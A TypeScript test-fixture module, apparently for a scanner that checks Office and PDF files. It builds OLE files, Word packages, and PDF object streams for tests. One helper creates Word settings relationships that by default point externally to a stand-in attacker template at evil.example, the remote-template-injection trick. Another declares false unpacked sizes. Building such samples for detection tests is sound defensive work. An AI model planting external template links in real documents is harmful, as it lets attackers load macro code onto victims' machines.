import { deflateSync } from 'node:zlib';
import { docx, zip } from './sample-files.ts';

const sectorBytes = 512;
const freeSector = 0xffffffff;
const endOfChain = 0xfffffffe;

/** An OLE file (MS-CFB, version 3) with a header, a table of sectors and a directory with these entries. */
export function ole(...names: readonly string[]): Buffer {
  const all = ['Root Entry', 'WordDocument', ...names];
  const directorySectors = Math.ceil(all.length / 4);
  const header = Buffer.alloc(sectorBytes);
  header.write('d0cf11e0a1b11ae1', 0, 'hex');
  for (const [value, at] of [
    [0x3e, 24],
    [3, 26],
    [0xfffe, 28],
    [9, 30],
    [6, 32],
  ] as const) {
    header.writeUInt16LE(value, at);
  }
  header.writeUInt32LE(1, 44);
  header.writeUInt32LE(1, 48);
  header.fill(0xff, 76);
  header.writeUInt32LE(0, 76);
  const table = Buffer.alloc(sectorBytes, 0xff);
  table.writeUInt32LE(0xfffffffd, 0);
  for (let n = 1; n <= directorySectors; n += 1) table.writeUInt32LE(n === directorySectors ? endOfChain : n + 1, n * 4);
  const directory = Buffer.alloc(directorySectors * sectorBytes);
  for (const [index, name] of all.entries()) {
    const at = index * 128;
    directory.write(name, at, 'utf16le');
    directory.writeUInt16LE((name.length + 1) * 2, at + 64);
    directory.writeUInt8(index === 0 ? 5 : 2, at + 66);
    for (const pointer of [68, 72, 76]) directory.writeUInt32LE(freeSector, at + pointer);
    directory.writeUInt32LE(endOfChain, at + 116);
  }
  return Buffer.concat([header, table, directory]);
}

const relations = (body: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
const typeAttribute = (kind: string): string => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}"`;

export const relationship = (kind: string, target = 'https://evil.example/a.dotm', mode = 'External'): string =>
  `<Relationship Id="rId1" ${typeAttribute(kind)} Target="${target}" TargetMode="${mode}"/>`;

/** A Word file whose settings have these relationships, packed as Word packs it. */
export const docxWith = (body: string, encode: (text: string) => Buffer = (text) => Buffer.from(text)): Buffer =>
  docx({ name: 'word/_rels/settings.xml.rels', data: encode(relations(body)), deflate: true });

/** A Word file with one part, whose unpacked size is declared as `declaredBytes`. */
export function docxWithWrongSize(declaredBytes: number): Buffer {
  const data = Buffer.from('<w:p>text</w:p>'.repeat(500));
  return zip([{ name: '[Content_Types].xml' }, { name: 'word/document.xml', data, unpacked: declaredBytes, deflate: true }]);
}

export function pdfOf(...objects: readonly (string | Buffer)[]): Buffer {
  const parts = objects.map((object, index) => Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]));
  return Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts, Buffer.from('trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n')]);
}

export function packedObjects(text: string, filter = '/FlateDecode'): Buffer {
  const data = filter === '/FlateDecode' ? deflateSync(text) : Buffer.from(text);
  return Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter ${filter} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
}
